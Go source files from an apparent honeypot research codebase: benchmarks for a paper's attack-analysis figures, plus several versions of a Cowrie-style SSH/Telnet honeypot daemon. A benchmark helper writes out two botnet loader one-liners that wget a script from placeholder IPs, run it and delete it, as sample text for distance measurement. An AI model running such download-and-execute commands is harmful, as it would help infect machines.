		if f4.ExistsTotal()+f4.MissingTotal() == 0 {
			b.Fatal("no exec sessions")
		}
	}
}

func BenchmarkFig16UniqueCommands(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig16(w)) == 0 {
			b.Fatal("no rows")
		}
	}
}

func BenchmarkTable1Coverage(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Table1(w).Total == 0 {
			b.Fatal("no sessions")
		}
	}
}

// ---------- Figures 5, 6, 14 (clustering) ----------

func BenchmarkFig05DLDMatrix(b *testing.B) {
	w := benchPipeline(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := analysis.RunClustering(w, analysis.ClusterConfig{K: 30, SampleSize: 400, Seed: 1, Workers: 1})
		if err != nil {
			b.Fatal(err)
		}
		if res.Fig5Table(10) == nil {
			b.Fatal("no table")
		}
	}
}

func BenchmarkFig06ClusterTimeline(b *testing.B) {
	w := benchPipeline(b)
	res, err := analysis.RunClustering(w, analysis.ClusterConfig{K: 30, SampleSize: 400, Seed: 1})
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(res.Fig6(5)) == 0 {
			b.Fatal("no months")
		}
	}
}

func BenchmarkFig14CategoryDLD(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig14(w, 8).Categories) == 0 {
			b.Fatal("no categories")
		}
	}
}

// ---------- Figures 7-9, 17 and section 7 (storage analyses) ----------

func BenchmarkFig07Sankey(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Fig7(w).Total == 0 {
			b.Fatal("no flows")
		}
	}
}

func BenchmarkFig08aASAge(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows := analysis.Fig8(w)
		if analysis.Fig8Sum(rows).Sessions == 0 {
			b.Fatal("no sessions")
		}
	}
}

// BenchmarkFig08bASSize shares the Fig8 analyzer (both panels derive
// from one pass); kept separate so every figure has a named bench.
func BenchmarkFig08bASSize(b *testing.B) {
	BenchmarkFig08aASAge(b)
}

func BenchmarkFig09IPReuse(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, days := range []int{7, 28, 365, 0} {
			if len(analysis.Fig9(w, days)) == 0 {
				b.Fatal("no quarters")
			}
		}
	}
}

func BenchmarkFig17StorageASTypes(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig17(w)) == 0 {
			b.Fatal("no rows")
		}
	}
}

func BenchmarkStorageIPStats(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Storage(w).DownloadSessions == 0 {
			b.Fatal("no downloads")
		}
	}
}

// ---------- Figures 10-13, section 9, Appendix C ----------

func BenchmarkFig10Passwords(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig10(w, 5).Top) == 0 {
			b.Fatal("no passwords")
		}
	}
}

func BenchmarkFig11CowrieDefaults(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		analysis.Fig11(w)
	}
}

func BenchmarkFig12Mdrfckr(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig12(w)) == 0 {
			b.Fatal("no days")
		}
	}
}

func BenchmarkFig13Variant(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cs := analysis.Mdrfckr(w, botnet.MdrfckrKeyHash())
		if cs.Fig13Table() == nil {
			b.Fatal("no table")
		}
	}
}

func BenchmarkMdrfckrCaseStudy(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Mdrfckr(w, botnet.MdrfckrKeyHash()).Sessions == 0 {
			b.Fatal("no sessions")
		}
	}
}

func BenchmarkAppCCurlProxy(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.CurlProxy(w).Sessions == 0 {
			b.Fatal("no sessions")
		}
	}
}

// ---------- End to end ----------

func BenchmarkEndToEndPipeline(b *testing.B) {
	for i := 0; i < b.N; i++ {
		p, err := core.Simulate(simulate.Config{Scale: 50000, Seed: int64(i)})
		if err != nil {
			b.Fatal(err)
		}
		if err := p.RunAll(io.Discard, analysis.ClusterConfig{K: 10, SampleSize: 100, Seed: 1}); err != nil {
			b.Fatal(err)
		}
	}
}

// ---------- Ablations (DESIGN.md section 5) ----------

// benchSessionPair returns two obfuscated variants of the same loader
// behavior — the motivating case for token-level distance.
func benchSessionPair() (string, string) {
	return "cd /tmp; wget http://203.0.113.7/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh",
		"cd /var/run; wget http://198.51.100.9/.x1z.sh; chmod 777 .x1z.sh; sh .x1z.sh; rm -rf .x1z.sh"
}

func BenchmarkAblationTokenDLD(b *testing.B) {
	x, y := benchSessionPair()
	tx, ty := textdist.Tokenize(x), textdist.Tokenize(y)
	s := textdist.NewScratch()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Damerau(tx, ty)
	}
}

func BenchmarkAblationCharDLD(b *testing.B) {
	x, y := benchSessionPair()
	s := textdist.NewScratch()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.CharDamerau(x, y)
	}
}

func BenchmarkAblationFullVsBandedDLD(b *testing.B) {
	x, _ := benchSessionPair()
	tx := textdist.Tokenize(x)
	ty := textdist.Tokenize("uname -a")
	s := textdist.NewScratch()
	b.Run("full", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			s.Damerau(tx, ty)
		}
	})
	b.Run("banded", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			s.DamerauBanded(tx, ty, 3)
		}
	})
}

func BenchmarkAblationKMedoidsSeeding(b *testing.B) {
	rng := rand.New(rand.NewSource(9))
	m := cluster.Fill(200, func(i, j int) float64 { return rng.Float64() })
	b.Run("farthest-point", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, err := cluster.KMedoids(m, 12, cluster.Config{Seed: int64(i)}); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("random", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, err := cluster.KMedoids(m, 12, cluster.Config{Seed: int64(i), RandomInit: true}); err != nil {
				b.Fatal(err)
			}
		}
	})
}

func BenchmarkAblationClassifierPrefilter(b *testing.B) {
	cls := classify.New()
	// Worst-case text: no rule matches, so every rule is tried. The
	// literal prefilter short-circuits most of them.
	text := "ps aux | sort | head; ls -la /var/log; cat /etc/os-release"
	b.Run("classify", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			cls.Classify(text)
		}
	})
	b.Run("all-rules-regex", func(b *testing.B) {
		rules := cls.Rules()
		for i := 0; i < b.N; i++ {
			for j := range rules {
				rules[j].Matches(text)
			}
		}
	})
}

func BenchmarkAblationStorageJSONLVsMemory(b *testing.B) {
	w := benchPipeline(b)
	recs := w.Store.All()
	if len(recs) > 5000 {
		recs = recs[:5000]
	}
	b.Run("jsonl-roundtrip", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			var buf bytes.Buffer
			wr := session.NewWriter(&buf)
			for _, r := range recs {
				if err := wr.Write(r); err != nil {
					b.Fatal(err)
				}
			}
			if err := wr.Flush(); err != nil {
				b.Fatal(err)
			}
			got, err := session.ReadAll(&buf)
			if err != nil || len(got) != len(recs) {
				b.Fatalf("round trip: %d, %v", len(got), err)
			}
		}
	})
	b.Run("in-memory-scan", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			n := 0
			for _, r := range recs {
				if r.Kind() == session.CommandExec {
					n++
				}
			}
			if n == 0 {
				b.Fatal("no sessions")
			}
		}
	})
}

// BenchmarkEventCorrelation measures the section 10 analysis.
func BenchmarkEventCorrelation(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.EventCorrelation(w)) == 0 {
			b.Fatal("no rows")
		}
	}
}

// BenchmarkKSelection measures the elbow/silhouette sweep with which the
// paper selects k=90.
func BenchmarkKSelection(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sel, err := analysis.SelectK(w, []int{5, 10, 20}, 150, 1, analysis.ClusterConfig{SampleSize: 400, Seed: 1, Workers: w.Workers})
		if err != nil {
			b.Fatal(err)
		}
		if len(sel.Points) == 0 {
			b.Fatal("no points")
		}
	}
}

// ---------- Parallel engine: serial vs multicore ----------

// benchWorkerCounts are the pool sizes the parallel benchmarks compare;
// w1 is the serial reference the speedup factors in EXPERIMENTS.md are
// measured against.
var benchWorkerCounts = []int{1, 2, 8}

func BenchmarkFig05DLDMatrixParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				// Fresh world per iteration: RunClustering memoizes its
				// sample+matrix on the world, which would otherwise turn
				// every iteration after the first into a memo hit.
				ww := withWorkers(w, workers)
				cfg := analysis.ClusterConfig{K: 30, SampleSize: 400, Seed: 1, Workers: workers}
				res, err := analysis.RunClustering(ww, cfg)
				if err != nil {
					b.Fatal(err)
				}
				if res.Fig5Table(10) == nil {
					b.Fatal("no table")
				}
			}
		})
	}
}

func BenchmarkKSelectionParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			ww := withWorkers(w, workers)
			for i := 0; i < b.N; i++ {
				sel, err := analysis.SelectK(ww, []int{5, 10, 20}, 150, 1, analysis.ClusterConfig{SampleSize: 400, Seed: 1, Workers: workers})
				if err != nil {
					b.Fatal(err)
				}
				if len(sel.Points) == 0 {
					b.Fatal("no points")
				}
			}
		})
	}
}

func BenchmarkTable1CoverageParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				// Fresh classifier per iteration: the memo would otherwise
				// absorb all work after the first pass and hide the
				// classification cost being sharded.
				ww := withWorkers(w, workers)
				ww.Classifier = classify.New()
				if analysis.Table1(ww).Total == 0 {
					b.Fatal("no sessions")
				}
			}
		})
	}
}

func BenchmarkDatasetStatsParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			ww := withWorkers(w, workers)
			for i := 0; i < b.N; i++ {
				if analysis.Stats(ww).Total == 0 {
					b.Fatal("empty stats")
				}
			}
		})
	}
}

// benchSink keeps the kernel comparison loops from being optimized out.
var benchSink float64

// BenchmarkDLDMatrixBounded compares a full pairwise matrix fill over
// the clustering sample with the unbounded full-DP kernel (kept as
// NormalizedIDsFull, the pre-optimization implementation) against the
// doubling-band Ukkonen kernel NormalizedIDs routes through now. Both
// produce bit-identical distances; the ratio of their ns/op is the
// kernel speedup reported in BENCH_4.json.
func BenchmarkDLDMatrixBounded(b *testing.B) {
	w := benchPipeline(b)
	smp, err := w.DLDSample(analysis.ClusterConfig{SampleSize: 2000, Seed: 42, Workers: 1})
	if err != nil {
		b.Fatal(err)
	}
	in := textdist.NewInterner()
	ids := make([][]int32, len(smp.Tokens))
	for i, tok := range smp.Tokens {
		ids[i] = in.Intern(tok)
	}
	pairs := float64(len(ids)) * float64(len(ids)-1) / 2
	for _, v := range []struct {
		name string
		dist func(s *textdist.Scratch, a, b []int32) float64
	}{
		{"unbounded", (*textdist.Scratch).NormalizedIDsFull},
		{"bounded", (*textdist.Scratch).NormalizedIDs},
	} {
		b.Run(v.name, func(b *testing.B) {
			s := textdist.NewScratch()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				sum := 0.0
				for x := range ids {
					for y := x + 1; y < len(ids); y++ {
						sum += v.dist(s, ids[x], ids[y])
					}
				}
				benchSink = sum
			}
			b.ReportMetric(pairs, "pairs/op")
		})
	}
}

// BenchmarkRunAllParallel measures the full -fig all pipeline under the
// dependency-aware figure scheduler at several pool sizes. Output goes
// to io.Discard; correctness (byte-identical tables for every worker
// count) is pinned by the determinism tests, so this bench is purely
// about wall time.
func BenchmarkRunAllParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				// Fresh classifier and world per iteration so the memos
				// (classification, shared DLD sample) do not absorb the
				// work being measured.
				ww := withWorkers(w, workers)
				ww.Classifier = classify.New()
				p := &core.Pipeline{World: ww, Scale: 10000}
				ccfg := analysis.ClusterConfig{K: 30, SampleSize: 400, Seed: 1, Workers: workers}
				if err := p.RunAll(io.Discard, ccfg); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkSimulateOneMonthParallel(b *testing.B) {
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				res, err := simulate.Run(simulate.Config{
					Scale:   5000,
					Seed:    int64(i),
					End:     botnet.WindowStart.AddDate(0, 1, 0),
					Workers: workers,
				})
				if err != nil {
					b.Fatal(err)
				}
				b.ReportMetric(float64(res.Sessions), "sessions/op")
			}
		})
	}
}

// BenchmarkRekey measures a full key re-exchange over loopback TCP.
func BenchmarkRekey(b *testing.B) {
	hk, _ := sshwire.GenerateHostKey()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	defer ln.Close()
	srvCh := make(chan *sshwire.Conn, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		sc, err := sshwire.ServerHandshake(c, &sshwire.Config{HostKey: hk})
		if err != nil {
			return
		}
		srvCh <- sc
		for {
			if _, err := sc.ReadPacket(); err != nil {
				return
			}
		}
	}()
	nc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		b.Fatal(err)
	}
	cli, err := sshwire.ClientHandshake(nc, nil)
	if err != nil {
		b.Fatal(err)
	}
	srv := <-srvCh
	defer cli.Close()
	defer srv.Close()
	go func() {
		for {
			if _, err := cli.ReadPacket(); err != nil {
				return
			}
		}
	}()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := cli.RequestRekey(); err != nil {
			b.Fatal(err)
		}
		for cli.Rekeys() < i+1 {
			time.Sleep(100 * time.Microsecond)
		}
	}
}

// BenchmarkFigAllFromStore is the cold-store end-to-end figure run:
// open a sealed month-partitioned store from disk, decode every
// segment, and render the full figure set — what `hnanalyze -fig all
// -sample 5000 -store DIR` costs after the store's write path has done
// its job. The store is built once; every iteration pays the full
// open+decode+analyze path.
func BenchmarkFigAllFromStore(b *testing.B) {
	w := benchPipeline(b)
	dir := b.TempDir()
	if err := persistStore(dir, "", "", w.Store.All()); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		p, err := Open(dir)
		if err != nil {
			b.Fatal(err)
		}
		// Same convention as hnanalyze -store: rebuild the AS registry
		// from the simulation seed so attribution figures run.
		p.World.Registry = asdb.NewRegistry(43, 2000)
		ccfg := ClusterConfig{K: 90, SampleSize: 5000, Seed: 1}
		if err := p.RunAll(io.Discard, ccfg); err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(p.World.Store.Len()), "sessions/op")
	}
}
