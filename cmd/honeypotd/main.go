// Command honeypotd runs one real, network-facing honeypot node: a
// Cowrie-style medium-interaction SSH and Telnet server with an emulated
// shell, printing every completed session record as a JSON line.
//
// Usage:
//
//	honeypotd [-ssh :2222] [-telnet :2323] [-id hp-1] [-hostname svr04] [-timeout 3m] [-out sessions.jsonl]
//
// Connect with any SSH client as root (any password except "root"):
//
//	ssh -p 2222 root@127.0.0.1
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"

	"honeynet/internal/honeypot"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
)

func main() {
	var (
		sshAddr    = flag.String("ssh", ":2222", "SSH listen address")
		telnetAddr = flag.String("telnet", ":2323", "Telnet listen address (empty to disable)")
		id         = flag.String("id", "hp-1", "honeypot node id")
		hostname   = flag.String("hostname", "svr04", "fake hostname the shell presents")
		timeout    = flag.Duration("timeout", honeypot.DefaultTimeout, "hard session timeout")
		out        = flag.String("out", "", "session JSONL output file (default stdout)")
		persistent = flag.Bool("persistent", false, "retain each client's filesystem across connections (defeats attacker consistency checks)")
	)
	flag.Parse()

	sink := os.Stdout
	if *out != "" {
		f, err := os.OpenFile(*out, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			log.Fatalf("honeypotd: %v", err)
		}
		defer f.Close()
		sink = f
	}
	w := session.NewWriter(sink)

	node, err := honeypot.New(honeypot.Config{
		ID:         *id,
		Hostname:   *hostname,
		Timeout:    *timeout,
		Persistent: *persistent,
		Download:   simulate.Fetcher(),
		Sink: func(r *session.Record) {
			if err := w.Write(r); err == nil {
				_ = w.Flush()
			}
			log.Printf("session %d from %s: %s, %d commands", r.ID, r.ClientIP, r.Kind(), len(r.Commands))
		},
	})
	if err != nil {
		log.Fatalf("honeypotd: %v", err)
	}
	addr, err := node.ListenSSH(*sshAddr)
	if err != nil {
		log.Fatalf("honeypotd: ssh: %v", err)
	}
	fmt.Printf("honeypotd: SSH on %s\n", addr)
	if *telnetAddr != "" {
		taddr, err := node.ListenTelnet(*telnetAddr)
		if err != nil {
			log.Fatalf("honeypotd: telnet: %v", err)
		}
		fmt.Printf("honeypotd: Telnet on %s\n", taddr)
	}

	// Serve until SIGINT/SIGTERM, then stop listeners, flush the session
	// log, and print the node's counters.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	<-sig
	_ = node.Close()
	_ = w.Flush()
	m := node.Metrics()
	fmt.Fprintf(os.Stderr, "honeypotd: shutting down: %d ssh + %d telnet connections, %d logins ok / %d failed, %d commands, %d downloads, %d state changes\n",
		m.SSHConnections, m.TelnetConnections, m.AuthSuccesses, m.AuthFailures,
		m.Commands, m.Downloads, m.StateChanges)
}
