// Command honeypotd runs one real, network-facing honeypot node: a
// Cowrie-style medium-interaction SSH and Telnet server with an emulated
// shell, recording every completed session as a JSON line.
//
// Usage:
//
//	honeypotd [-ssh :2222] [-telnet :2323] [-id hp-1] [-hostname svr04] [-timeout 3m]
//	          [-out sessions.jsonl] [-log-max-size 256MB]
//	          [-max-conns 512] [-max-conns-per-ip 8] [-rate 5/s]
//	          [-drain-timeout 30s]
//
// Connect with any SSH client as root (any password except "root"):
//
//	ssh -p 2222 root@127.0.0.1
//
// The daemon is built for multi-year runs (the paper's deployment is 33
// months): connections are capped globally and per source IP with
// oldest-connection shedding, admission is rate limited per IP, the
// emulated fetcher has a per-IP download budget so the node cannot be
// farmed as an open proxy, the session log is crash-safe (fsynced,
// rotated, torn-tail recovered), and SIGTERM drains in-flight sessions
// before exiting.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"honeynet/internal/guard"
	"honeynet/internal/honeypot"
	"honeynet/internal/session"
	"honeynet/internal/sessionlog"
	"honeynet/internal/simulate"
)

func main() {
	var (
		sshAddr    = flag.String("ssh", ":2222", "SSH listen address")
		telnetAddr = flag.String("telnet", ":2323", "Telnet listen address (empty to disable)")
		id         = flag.String("id", "hp-1", "honeypot node id")
		hostname   = flag.String("hostname", "svr04", "fake hostname the shell presents")
		timeout    = flag.Duration("timeout", honeypot.DefaultTimeout, "hard session timeout")
		out        = flag.String("out", "", "session JSONL output file (default stdout)")
		persistent = flag.Bool("persistent", false, "retain each client's filesystem across connections (defeats attacker consistency checks)")

		maxConns      = flag.Int("max-conns", 512, "global concurrent connection cap; oldest connection is shed at the cap (0 = unlimited)")
		maxConnsPerIP = flag.Int("max-conns-per-ip", 8, "per-IP concurrent connection cap; newcomers beyond it are shed (0 = unlimited)")
		rateSpec      = flag.String("rate", "5/s", "per-IP connection admission rate, e.g. 5/s, 300/m (empty = unlimited)")
		logMaxSize    = flag.String("log-max-size", "256MB", "rotate the session log past this size, e.g. 64MB, 1GB (0 = never)")
		drainTimeout  = flag.Duration("drain-timeout", 30*time.Second, "on SIGTERM, wait this long for in-flight sessions before force-closing")

		dlFetches = flag.Int("download-budget", 120, "per-IP emulated fetches allowed per minute (0 = unlimited)")
	)
	flag.Parse()

	rate, err := guard.ParseRate(*rateSpec)
	if err != nil {
		log.Fatalf("honeypotd: -rate: %v", err)
	}
	maxSize, err := parseSize(*logMaxSize)
	if err != nil {
		log.Fatalf("honeypotd: -log-max-size: %v", err)
	}

	// Session store: crash-safe rotated JSONL when -out is a file,
	// buffered stdout otherwise.
	var w *sessionlog.Writer
	if *out != "" {
		w, err = sessionlog.Open(*out, sessionlog.Options{MaxSize: maxSize})
		if err != nil {
			log.Fatalf("honeypotd: %v", err)
		}
	} else {
		w = sessionlog.NewStream(os.Stdout)
	}
	defer w.Close()

	limiter := guard.NewLimiter(guard.Config{
		MaxConns:      *maxConns,
		MaxConnsPerIP: *maxConnsPerIP,
		Rate:          rate,
	})
	var budget *guard.Budget
	if *dlFetches > 0 {
		budget = &guard.Budget{MaxFetches: *dlFetches, Window: time.Minute}
	}

	node, err := honeypot.New(honeypot.Config{
		ID:             *id,
		Hostname:       *hostname,
		Timeout:        *timeout,
		Persistent:     *persistent,
		Download:       simulate.Fetcher(),
		Guard:          limiter,
		DownloadBudget: budget,
		Sink: func(r *session.Record) error {
			err := w.Write(r)
			if err != nil {
				// Never silent: a full disk at month 14 of a 33-month run
				// must show up in the logs and the metrics line.
				log.Printf("honeypotd: session %d WRITE FAILED: %v", r.ID, err)
				return err
			}
			log.Printf("session %d from %s: %s, %d commands", r.ID, r.ClientIP, r.Kind(), len(r.Commands))
			return nil
		},
	})
	if err != nil {
		log.Fatalf("honeypotd: %v", err)
	}
	addr, err := node.ListenSSH(*sshAddr)
	if err != nil {
		log.Fatalf("honeypotd: ssh: %v", err)
	}
	fmt.Printf("honeypotd: SSH on %s\n", addr)
	if *telnetAddr != "" {
		taddr, err := node.ListenTelnet(*telnetAddr)
		if err != nil {
			log.Fatalf("honeypotd: telnet: %v", err)
		}
		fmt.Printf("honeypotd: Telnet on %s\n", taddr)
	}

	// Serve until SIGINT/SIGTERM, then drain: stop accepting, let
	// in-flight sessions finish up to -drain-timeout, force-close the
	// rest (their partial records are still sealed and written), flush
	// the session log, and print the node's counters.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	<-sig
	fmt.Fprintf(os.Stderr, "honeypotd: draining (up to %v)...\n", *drainTimeout)
	forced := node.Drain(*drainTimeout)
	if err := w.Flush(); err != nil {
		log.Printf("honeypotd: final flush: %v", err)
	}
	m := node.Metrics()
	fmt.Fprintf(os.Stderr, "honeypotd: shutting down: %d ssh + %d telnet connections (%d shed, %d rate-limited, %d force-closed), %d logins ok / %d failed, %d commands, %d downloads (%d throttled), %d state changes, %d records written (%d rotations, %d write errors)\n",
		m.SSHConnections, m.TelnetConnections, m.ConnsShed, m.RateLimited, forced,
		m.AuthSuccesses, m.AuthFailures, m.Commands, m.Downloads, m.DownloadsThrottled,
		m.StateChanges, w.Written(), w.Rotations(), w.Errors())
	if m.SinkErrors > 0 {
		fmt.Fprintf(os.Stderr, "honeypotd: WARNING: %d session records were lost to write errors\n", m.SinkErrors)
	}
}

// parseSize parses human byte sizes: "256MB", "64m", "1GiB", "1048576".
func parseSize(s string) (int64, error) {
	t := strings.TrimSpace(strings.ToUpper(s))
	if t == "" || t == "0" {
		return 0, nil
	}
	mult := int64(1)
	for _, u := range []struct {
		suffix string
		mult   int64
	}{
		{"KIB", 1 << 10}, {"MIB", 1 << 20}, {"GIB", 1 << 30},
		{"KB", 1 << 10}, {"MB", 1 << 20}, {"GB", 1 << 30},
		{"K", 1 << 10}, {"M", 1 << 20}, {"G", 1 << 30},
		{"B", 1},
	} {
		if strings.HasSuffix(t, u.suffix) {
			t = strings.TrimSuffix(t, u.suffix)
			mult = u.mult
			break
		}
	}
	v, err := strconv.ParseInt(strings.TrimSpace(t), 10, 64)
	if err != nil || v < 0 {
		return 0, fmt.Errorf("bad size %q", s)
	}
	return v * mult, nil
}
