// Command honeypotd runs one real, network-facing honeypot node: a
// Cowrie-style medium-interaction SSH and Telnet server with an emulated
// shell, recording every completed session as a JSON line.
//
// Usage:
//
//	honeypotd [-ssh :2222] [-telnet :2323] [-id hp-1] [-hostname svr04] [-timeout 3m]
//	          [-out sessions.jsonl] [-store DIR] [-log-max-size 256MB]
//	          [-max-conns 512] [-max-conns-per-ip 8] [-rate 5/s]
//	          [-drain-timeout 30s] [-admin :9090]
//
// Connect with any SSH client as root (any password except "root"):
//
//	ssh -p 2222 root@127.0.0.1
//
// The daemon is built for multi-year runs (the paper's deployment is 33
// months): connections are capped globally and per source IP with
// oldest-connection shedding, admission is rate limited per IP, the
// emulated fetcher has a per-IP download budget so the node cannot be
// farmed as an open proxy, the session log is crash-safe (fsynced,
// rotated, torn-tail recovered), and SIGTERM drains in-flight sessions
// before exiting. With -admin, the node serves Prometheus /metrics,
// /healthz (503 while draining), and /debug/pprof.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"

	"honeynet"
	"honeynet/internal/session"
)

func main() {
	var cfg Config
	cfg.RegisterFlags(flag.CommandLine)
	flag.Parse()
	if err := cfg.Validate(); err != nil {
		log.Fatalf("honeypotd: %v", err)
	}

	scfg := cfg.ServeConfig()
	if cfg.Out == "" && cfg.Store == "" {
		scfg.LogOutput = os.Stdout
	}
	scfg.OnRecord = func(r *session.Record) {
		log.Printf("session %d from %s: %s, %d commands", r.ID, r.ClientIP, r.Kind(), len(r.Commands))
	}
	srv, err := honeynet.Serve(scfg)
	if err != nil {
		log.Fatalf("honeypotd: %v", err)
	}
	srv.Registry().PublishExpvar("honeynet")

	fmt.Printf("honeypotd: SSH on %s\n", srv.SSHAddr())
	if a := srv.TelnetAddr(); a != "" {
		fmt.Printf("honeypotd: Telnet on %s\n", a)
	}
	if a := srv.AdminAddr(); a != "" {
		fmt.Printf("honeypotd: admin on http://%s/metrics\n", a)
	}

	// Serve until SIGINT/SIGTERM, then drain: stop accepting, let
	// in-flight sessions finish up to -drain-timeout, force-close the
	// rest (their partial records are still sealed and written), seal
	// the session log with a metrics snapshot, and print the counters.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	<-sig
	fmt.Fprintf(os.Stderr, "honeypotd: draining (up to %v)...\n", cfg.DrainTimeout)
	w := srv.Log()
	forced, derr := srv.Drain("shutdown")
	m := srv.Metrics()
	var written, rotations, werrs int64
	if w != nil {
		written, rotations, werrs = w.Written(), w.Rotations(), w.Errors()
	}
	fmt.Fprintf(os.Stderr, "honeypotd: shutting down: %d ssh + %d telnet connections (%d shed, %d rate-limited, %d force-closed), %d logins ok / %d failed, %d commands, %d downloads (%d throttled), %d state changes, %d records written (%d rotations, %d write errors)\n",
		m.SSHConnections, m.TelnetConnections, m.ConnsShed, m.RateLimited, forced,
		m.AuthSuccesses, m.AuthFailures, m.Commands, m.Downloads, m.DownloadsThrottled,
		m.StateChanges, written, rotations, werrs)
	if m.SinkErrors > 0 {
		fmt.Fprintf(os.Stderr, "honeypotd: WARNING: %d session records were lost to write errors\n", m.SinkErrors)
	}
	if derr != nil {
		fmt.Fprintf(os.Stderr, "honeypotd: drain: %v\n", derr)
	}
}
