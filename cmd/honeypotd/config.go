package main

import (
	"flag"
	"fmt"
	"time"

	"honeynet"
	"honeynet/internal/fleet"
	"honeynet/internal/guard"
	"honeynet/internal/honeypot"
	"honeynet/internal/sessionlog"
	"honeynet/internal/store"
)

// Defaults, in one place: flag registration and the README quote them
// from here, so help text and docs cannot drift apart.
const (
	defaultSSHAddr       = ":2222"
	defaultTelnetAddr    = ":2323"
	defaultID            = "hp-1"
	defaultHostname      = "svr04"
	defaultMaxConns      = 512
	defaultMaxConnsPerIP = 8
	defaultRate          = "5/s"
	defaultLogMaxSize    = "256MB"
	defaultDrainTimeout  = 30 * time.Second
	defaultDLBudget      = 120
)

// Config is every honeypotd knob in one struct. Flags register against
// it, Validate checks it, and ServeConfig converts it for the facade.
type Config struct {
	SSHAddr     string
	TelnetAddr  string
	AdminAddr   string
	ID          string
	Hostname    string
	Timeout     time.Duration
	Out         string
	Store       string
	StoreCodec  string
	StoreFormat string
	StoreBatch  int
	StoreDelay  time.Duration
	Persistent  bool

	Forward      string
	NodeID       string
	ForwardBatch int
	ForwardDelay time.Duration
	AckWindow    int

	Live bool

	MaxConns      int
	MaxConnsPerIP int
	Rate          string
	LogMaxSize    string
	DrainTimeout  time.Duration
	DLBudget      int

	// logMaxBytes is the parsed LogMaxSize, filled by Validate.
	logMaxBytes int64
}

// RegisterFlags binds every field to fs.
func (c *Config) RegisterFlags(fs *flag.FlagSet) {
	fs.StringVar(&c.SSHAddr, "ssh", defaultSSHAddr, "SSH listen address")
